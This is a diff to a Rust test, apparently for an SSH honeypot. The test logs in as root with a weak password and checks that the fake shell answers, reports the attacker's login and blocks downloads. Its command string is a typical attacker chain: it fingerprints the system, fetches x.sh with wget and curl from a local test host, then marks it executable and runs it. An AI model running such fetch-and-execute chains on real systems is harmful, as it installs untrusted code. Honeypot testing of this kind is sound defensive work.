@@ -201,13 +201,19 @@ fn openssh_logs_in_runs_commands_and_every_attempt_is_recorded() {
 
     // the right one: the fake shell answers, downloads are recorded and never made
     let cmd = format!(
-        "uname -a; id; cd /tmp && wget http://127.0.0.1:{p}/x.sh; curl -s -O http://127.0.0.1:{p}/y; ls /tmp; chmod +x x.sh; ./x.sh",
+        "uname -a; id; w -h; cd /tmp && wget http://127.0.0.1:{p}/x.sh; curl -s -O http://127.0.0.1:{p}/y; ls /tmp; chmod +x x.sh; ./x.sh",
         p = trap.port()
     );
     let ok = ssh(dir.path(), port, "root", "letmein", &[], &cmd);
     let out = String::from_utf8_lossy(&ok.stdout);
     assert!(out.contains("Linux"), "{out}");
     assert!(out.contains("uid=0(root)"), "{out}");
+    // `w` shows the attacker's own login, from where it really comes
+    assert!(
+        out.lines()
+            .any(|l| l.starts_with("root") && l.contains("127.0.0.1")),
+        "{out}"
+    );
     // wget and curl said what real ones say when the network fails, and made no file
     assert!(out.contains("failed: Connection refused."), "{out}");
     assert!(
